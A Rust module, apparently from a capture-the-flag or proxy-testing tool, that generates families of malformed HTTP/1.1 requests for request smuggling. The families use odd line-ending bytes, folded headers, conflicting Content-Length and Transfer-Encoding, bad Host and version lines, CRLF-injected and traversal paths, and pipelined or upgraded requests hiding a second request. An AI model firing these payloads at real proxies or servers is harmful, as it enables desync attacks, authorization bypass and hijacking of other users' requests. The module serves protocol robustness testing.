//! Families about heads: bytes that end lines for some, request lines, versions, hosts, Expect, Connection, Upgrade.

use crate::message::{AUTHORIZATION, Draft, Messages, PROXY_AUTHORIZATION, chunk, field, join};

/// Bytes that some reader takes for a blank, a line's end or nothing.
pub(crate) const ODD_BYTES: &[&[u8]] = &[
    b"\r",
    b"\n",
    b"\0",
    b"\x0b",
    b"\x0c",
    b"\x08",
    b"\x1f",
    b"\x7f",
    b"\x85",
    b"\xa0",
    b"\xff",
    b" ",
    b"\t",
    b"\r\r",
    b"\n\n",
    b"\r\r\n",
    b"\n\r",
    b"\r\n\r",
    b"\r\n ",
    b"\r\n\t",
    b"\xe2\x80\xa8",
    b"\xc4\x8d\xc4\x8a",
];

/// A bare CR, a bare LF, NUL and the like, at every place of a head.
pub(crate) fn odd_bytes(messages: &mut Messages) {
    messages.family("odd-bytes");
    for odd in ODD_BYTES {
        // At every seam of request line and field line.
        for place in 0..14 {
            messages.add(|draft| {
                let path = draft.path();
                let seams: [&[u8]; 14] =
                    [b"", b"POST", b" ", path.as_bytes(), b" ", b"HTTP/1.1", b"\r\n", b"Host", b":", b" proxy", b"\r\n", b"Content-Length", b":", b" 0"];
                let mut bytes = Vec::new();
                for (at, part) in seams.iter().enumerate() {
                    bytes.extend_from_slice(part);
                    if at == place {
                        bytes.extend_from_slice(odd);
                    }
                }
                join(&[&bytes, b"\r\n", AUTHORIZATION.as_bytes(), b"\r\n", &draft.smuggled()])
            });
        }
        // Within a value: what comes behind it is another field, or another request.
        let hidden: [&[u8]; 3] = [b"Transfer-Encoding: chunked", b"Content-Length: 5", b"Connection: close"];
        for line in hidden {
            messages.add(|draft| draft.post(&join(&[b"X: y", odd, line, b"\r\n"]), &join(&[b"0\r\n\r\n", &draft.smuggled()])));
        }
        messages.add(|draft| join(&[&draft.head("GET", &join(&[b"X: y", odd, odd, &draft.smuggled(), b"\r\n"]))]));
        messages.add(|draft| draft.post(&join(&[b"X", odd, b"Y: z\r\nContent-Length: 5\r\n"]), &join(&[b"abcde", &draft.smuggled()])));
        // In the place of the empty line.
        messages.add(|draft| {
            let head = draft.head("POST", b"Content-Length: 0\r\n");
            join(&[&head[..head.len() - 2], odd, &draft.smuggled_whole(), b"\r\n"])
        });
        // Between two requests.
        messages.add(|draft| join(&[&draft.head("GET", b""), odd, &draft.second()]));
        messages.add(|draft| join(&[&draft.post(b"Content-Length: 2\r\n", b"ab"), odd, &draft.smuggled_whole()]));
    }
}

/// Lines that go on in the next one.
pub(crate) fn folds(messages: &mut Messages) {
    messages.family("folds");
    const LINES: &[&[u8]] = &[
        b"X: y\r\n z",
        b"X: y\r\n\tz",
        b"X:\r\n y",
        b"X: y\r\n \r\n",
        b"X: y\r\n \r\n z",
        b"X: y\r\n Content-Length: 5",
        b"X: y\r\n\tTransfer-Encoding: chunked",
        b" X: y",
        b"\tX: y",
        b"X: y\n z",
        b"X: y\r z",
        b"Content-Length: 0\r\n 5",
        b"Content-Length:\r\n\t5",
        b"Content-Length: 5\r\n Transfer-Encoding: chunked",
        b"Connection:\r\n close",
        b"Connection: close\r\n , Content-Length",
        b"Host: a\r\n b",
        b"Authorization:\r\n Basic eDp5",
    ];
    for line in LINES {
        messages.add(|draft| draft.post(&join(&[line, b"\r\nContent-Length: 5\r\n"]), &join(&[b"abcde", &draft.smuggled()])));
        messages.add(|draft| draft.post(&join(&[b"Transfer-Encoding: chunked\r\n", line, b"\r\n"]), &join(&[b"0\r\n\r\n", &draft.smuggled()])));
        // As the first line below the request line.
        messages.add(|draft| {
            let head = format!("POST {} HTTP/1.1\r\n", draft.path());
            join(&[head.as_bytes(), line, b"\r\nHost: proxy\r\n", AUTHORIZATION.as_bytes(), b"\r\n", &draft.smuggled()])
        });
    }
}

/// Expect: a body that comes, or doesn't, or comes late.
pub(crate) fn expectations(messages: &mut Messages) {
    messages.family("expectations");
    const LINES: &[&[u8]] = &[
        b"Expect: 100-continue",
        b"Expect: 100-Continue",
        b"expect:100-continue",
        b"Expect: 100-continue ",
        b"Expect:\t100-continue",
        b"Expect : 100-continue",
        b"Expect: y 100-continue",
        b"Expect: 100-continue, x",
        b"Expect: x, 100-continue",
        b"Expect: 100-continue\r\nExpect: 100-continue",
        b"Expect: 100-continue\r\nExpect: x",
        b"Expect: 200-ok",
        b"Expect: x=y",
        b"Expect:",
        b"Expect: 100-continue;a",
        b"Expect: \"100-continue\"",
        b"Expect:\r\n 100-continue",
        b"Expect: 100-continue\0",
        b"Expect: 100_continue",
        b"Connection: Expect\r\nExpect: 100-continue",
    ];
    for line in LINES {
        let line = &join(&[line, b"\r\n"])[..];
        for method in ["GET", "POST", "HEAD", "OPTIONS"] {
            messages.add(|draft| {
                let smuggled = draft.smuggled_whole();
                join(&[&draft.head(method, &join(&[line, &field("Content-Length", smuggled.len())])), &smuggled])
            });
            messages.add(|draft| {
                join(&[&draft.head(method, &join(&[line, b"Transfer-Encoding: chunked\r\n"])), &chunk(&draft.smuggled()), b"0\r\n\r\n", &draft.second()])
            });
        }
        messages.add(|draft| draft.post(&join(&[line, b"Content-Length: 0\r\n"]), &draft.second()));
        // Announced, and never sent.
        messages.add(|draft| draft.post(&join(&[line, b"Content-Length: 100\r\n"]), b""));
        messages.add(|draft| draft.post(&join(&[b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", line]), &join(&[b"0\r\n\r\n", &draft.smuggled()])));
    }
}

/// Connection, naming what it may not.
pub(crate) fn connections(messages: &mut Messages) {
    messages.family("connections");
    const NAMES: &[&str] = &[
        "Content-Length",
        "Transfer-Encoding",
        "Host",
        "Authorization",
        "Content-Length, Transfer-Encoding",
        "close, Content-Length",
        "keep-alive, Transfer-Encoding",
        "Expect",
        "TE",
        "Via",
        "X-Forwarded-For",
        "Connection",
        "\"Content-Length\"",
        "Content_Length",
        "content-length\tx",
        ",,,Content-Length,,",
        "*",
        "Content-*",
        "Trailer",
        "Upgrade, Content-Length",
    ];
    for names in NAMES {
        let line = &field("Connection", names)[..];
        messages.add(|draft| {
            let smuggled = draft.smuggled_whole();
            draft.post(&join(&[line, &field("Content-Length", smuggled.len())]), &smuggled)
        });
        messages.add(|draft| draft.post(&join(&[b"Transfer-Encoding: chunked\r\n", line]), &join(&[&chunk(&draft.smuggled_whole()), b"0\r\n\r\n"])));
        messages.add(|draft| join(&[&draft.head("GET", line), &draft.second()]));
        messages.add(|draft| join(&[&draft.head("GET", &join(&[b"Proxy-Connection: keep-alive\r\nKeep-Alive: timeout=1, max=1\r\n", line])), &draft.second()]));
    }
}

/// Versions: 0.9, 1.0 with what it doesn't know, later ones, and what isn't one.
pub(crate) fn versions(messages: &mut Messages) {
    messages.family("versions");
    const VERSIONS: &[&str] = &[
        "HTTP/0.9",
        "HTTP/1.0",
        "HTTP/1.2",
        "HTTP/1.9",
        "HTTP/2.0",
        "HTTP/2",
        "HTTP/3.0",
        "HTTP/1.",
        "HTTP/1",
        "HTTP/.1",
        "HTTP/01.1",
        "HTTP/1.01",
        "HTTP/1.10",
        "HTTP/+1.1",
        "HTTP/-1.1",
        "HTTP/1,1",
        "HTTP/1.1.1",
        "HTTP/ 1.1",
        "HTTP /1.1",
        "HTTP/1.1 ",
        "HTTP/1.1\t",
        "http/1.1",
        "Http/1.1",
        "HTTPS/1.1",
        "HTTP-1.1",
        "HTTP\\1.1",
        "XHTTP/1.1",
        "HTP/1.1",
        "HTTP/1.a",
        "HTTP/0x1.1",
        "HTTP/65537.1",
        "HTTP/1.1 HTTP/1.0",
        "HTTP/1.1 x",
        "ICE/1.0",
        "RTSP/1.0",
        "",
        " ",
    ];
    for version in VERSIONS {
        let start = |draft: &Draft, method: &str| format!("{method} {} {version}\r\nHost: proxy\r\n{}", draft.path(), AUTHORIZATION).into_bytes();
        messages.add(|draft| join(&[&start(draft, "GET"), b"\r\n", &draft.smuggled_whole()]));
        messages.add(|draft| join(&[&start(draft, "GET"), b"Connection: keep-alive\r\n\r\n", &draft.second()]));
        messages.add(|draft| join(&[&start(draft, "POST"), b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", &draft.smuggled()]));
        messages.add(|draft| {
            let body = join(&[b"0\r\n\r\n", &draft.smuggled()]);
            let fields = join(&[b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n", &field("Content-Length", body.len())]);
            join(&[&start(draft, "POST"), &fields, b"\r\n", &body])
        });
    }
    // 1.0 without Host, without a version at all, and HTTP/2 as it begins.
    messages.add(|draft| format!("GET {} HTTP/1.0\r\n{}\r\n", draft.path(), AUTHORIZATION).into_bytes());
    messages.add(|draft| join(&[format!("GET {}\r\n", draft.path()).as_bytes(), &draft.second()]));
    messages.add(|draft| format!("GET {}\r\n\r\n", draft.path()).into_bytes());
    messages.add(|draft| join(&[b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", &draft.second()]));
    messages.add(|draft| join(&[b"PRI * HTTP/2.0\r\n", &draft.head("GET", b"")]));
}

/// Absolute-form against Host, two Hosts, Hosts that are none.
pub(crate) fn hosts(messages: &mut Messages) {
    messages.family("hosts");
    const LINES: &[&str] = &[
        "Host: proxy",
        "Host: elsewhere",
        "Host: c-victim.team.localhost",
        "Host: c-attacker.team.localhost",
        "Host: proxy\r\nHost: proxy",
        "Host: proxy\r\nHost: elsewhere",
        "Host:\r\nHost: proxy",
        "Host: proxy\r\nhost : x",
        "Host:",
        "Host: ",
        "Host: a b",
        "Host: a,b",
        "Host: a/b",
        "Host: a@b",
        "Host: user:pw@b",
        "Host: a?b",
        "Host: a#b",
        "Host: a\\b",
        "Host: a:",
        "Host: a:0",
        "Host: a:80:80",
        "Host: a:x",
        "Host: a:99999",
        "Host: http://a",
        "Host: [::1]",
        "Host: [::1",
        "Host: ::1",
        "Host: [::1]x",
        "Host: 127.1",
        "Host: 0x7f.1",
        "Host: a\tb",
        "Host: a\x0bb",
        "Host: a\0b",
        "Host : proxy",
        " Host: proxy",
        "Host: *",
        "X: y",
        "Host: a%00",
        "Host: ..",
        "Host: a\r\n b",
        "Hostx: proxy",
        "X-Forwarded-Host: elsewhere",
        "Host_: x\r\nHost: proxy",
    ];
    for line in LINES {
        messages.add(|draft| format!("GET {} HTTP/1.1\r\n{line}\r\n{}\r\n", draft.path(), AUTHORIZATION).into_bytes());
        messages.add(|draft| join(&[format!("GET {} HTTP/1.1\r\n{line}\r\n{}\r\n", draft.url(), PROXY_AUTHORIZATION).as_bytes(), &draft.smuggled_whole()]));
    }
    const TARGETS: &[&str] = &[
        "http:/URL",
        "http:URL",
        "HTTP://URL",
        "http:///URL",
        "https://URL",
        "http://x@URL",
        "http://x:y@URL",
        "http://URL#f",
        "//URL",
        "URL",
        "http://URL\\x",
        "ftp://URL",
        "http:\\\\URL",
        "/http://URL",
    ];
    for target in TARGETS {
        messages.add(|draft| {
            let url = draft.url();
            let target = target.replace("URL", url.trim_start_matches("http://"));
            format!("GET {target} HTTP/1.1\r\nHost: proxy\r\n{}{}\r\n", PROXY_AUTHORIZATION, AUTHORIZATION).into_bytes()
        });
    }
}

/// Blanks where a request line has none, more of them, and other ones.
pub(crate) fn request_lines(messages: &mut Messages) {
    messages.family("request-lines");
    const LINES: &[&str] = &[
        " POST PATH HTTP/1.1",
        "\tPOST PATH HTTP/1.1",
        "POST  PATH HTTP/1.1",
        "POST\tPATH HTTP/1.1",
        "POST PATH  HTTP/1.1",
        "POST PATH\tHTTP/1.1",
        "POST PATH HTTP/1.1 ",
        "POST PATH HTTP/1.1\t",
        "POST PATH x HTTP/1.1",
        "POST PATH%20x HTTP/1.1",
        "POST PATH\x0bx HTTP/1.1",
        "POST PATH\u{a0}HTTP/1.1",
        "POST\u{a0}PATH HTTP/1.1",
        "POST PATH\0 HTTP/1.1",
        "\r\nPOST PATH HTTP/1.1",
        "\r\n\r\nPOST PATH HTTP/1.1",
        "\nPOST PATH HTTP/1.1",
        "\rPOST PATH HTTP/1.1",
        "\r\n\r\n\r\nPOST PATH HTTP/1.1",
        " \r\nPOST PATH HTTP/1.1",
        "POST PATH#x HTTP/1.1",
        "POST PATH?x HTTP/1.1",
        "POST PATH?x=/x HTTP/1.1",
        "POST PATH%0d%0aX:y HTTP/1.1",
        "POST PATH%0a%0aGET%20/x HTTP/1.1",
        "POST PATH%00 HTTP/1.1",
        "POST PATH/../x HTTP/1.1",
        "POST PATH/%2e%2e/x HTTP/1.1",
        "POST PATH/..;/x HTTP/1.1",
        "POST PATH\\..\\x HTTP/1.1",
        "POST PATH//x HTTP/1.1",
        "POST PATH;x=y HTTP/1.1",
        "POST PATH<x> HTTP/1.1",
        "POST PATH\"x\" HTTP/1.1",
        "POST PATH{x}|^` HTTP/1.1",
        "POST PATH%zz HTTP/1.1",
        "POST PATH% HTTP/1.1",
        "POST PATHé HTTP/1.1",
        "POST * HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "CONNECT PATH HTTP/1.1",
        "TRACE PATH HTTP/1.1",
        "TRACK PATH HTTP/1.1",
        "POSTPATH HTTP/1.1",
        "POST PATHHTTP/1.1",
        "PATH HTTP/1.1",
        "POST HTTP/1.1",
        "POST",
        "GET PATH HTTP/1.1\r\nX",
        "HTTP/1.1 200 OK",
    ];
    for line in LINES {
        for fields in [&b"Content-Length: 5\r\n"[..], b"Transfer-Encoding: chunked\r\n"] {
            messages.add(|draft| {
                let start = format!("{}\r\nHost: proxy\r\n{}", line.replace("PATH", &draft.path()), AUTHORIZATION);
                join(&[start.as_bytes(), fields, b"\r\n0\r\n\r\n", &draft.smuggled()])
            });
        }
    }
}

/// Several requests at once: good ones, and bad ones between them.
pub(crate) fn pipelines(messages: &mut Messages) {
    messages.family("pipelines");
    type Part = fn(&Draft) -> Vec<u8>;
    const PARTS: &[Part] = &[
        |draft| draft.head("GET", b""),
        |draft| draft.post(b"Content-Length: 5\r\n", b"abcde"),
        |draft| draft.post(b"Transfer-Encoding: chunked\r\n", b"5\r\nabcde\r\n0\r\n\r\n"),
        |draft| draft.head("HEAD", b""),
        Draft::second,
        Draft::smuggled_whole,
        |draft| draft.head("GET", b"Connection: close\r\n"),
        |draft| draft.post(b"Content-Length: 0\r\n", b""),
        |draft| draft.post(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"),
        |_| b"\r\n".to_vec(),
        |draft| format!("GET {} HTTP/1.0\r\nConnection: keep-alive\r\n{}\r\n", draft.path(), AUTHORIZATION).into_bytes(),
    ];
    for first in PARTS {
        for second in PARTS {
            messages.add(|draft| join(&[&first(draft), &second(draft), &draft.second()]));
        }
    }
    // More than one read holds.
    messages.add(|draft| draft.second().repeat(40));
    messages.add(|draft| join(&[&draft.post(&field("Content-Length", 70_000), &vec![b'x'; 70_000]), &draft.second(), &draft.smuggled()]));
}

/// Bodies where some readers expect none, and upgrades that nobody agrees to.
pub(crate) fn unexpected_bodies(messages: &mut Messages) {
    messages.family("unexpected-bodies");
    for method in ["GET", "HEAD", "DELETE", "OPTIONS", "PUT", "PATCH", "TRACE"] {
        messages.add(|draft| {
            let smuggled = draft.smuggled_whole();
            join(&[&draft.head(method, &field("Content-Length", smuggled.len())), &smuggled, &draft.second()])
        });
        messages.add(|draft| join(&[&draft.head(method, b"Transfer-Encoding: chunked\r\n"), &chunk(&draft.smuggled_whole()), b"0\r\n\r\n", &draft.second()]));
        messages.add(|draft| join(&[&draft.head(method, b""), &draft.smuggled()]));
        messages.add(|draft| join(&[&draft.head(method, b"Content-Length: 200\r\n"), &draft.smuggled()]));
        messages.add(|draft| join(&[&draft.head(method, b"Transfer-Encoding: chunked\r\n"), &chunk(&draft.smuggled())]));
    }
    messages.family("upgrades");
    const UPGRADES: &[&str] = &[
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
        "Connection: HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n",
        "Connection: Upgrade\r\nUpgrade: SPDY/3.1\r\n",
        "Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n",
        "Connection: upgrade\r\nUpgrade:\r\n",
        "Connection: Upgrade\r\n",
        "Upgrade: websocket\r\n",
    ];
    for fields in UPGRADES {
        for method in ["GET", "POST", "OPTIONS"] {
            messages.add(|draft| join(&[&draft.head(method, fields.as_bytes()), &draft.smuggled_whole()]));
            messages.add(|draft| {
                let smuggled = draft.smuggled_whole();
                join(&[&draft.head(method, &join(&[fields.as_bytes(), &field("Content-Length", smuggled.len())])), &smuggled, &draft.second()])
            });
            messages.add(|draft| join(&[&draft.head(method, fields.as_bytes()), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"]));
        }
    }
}
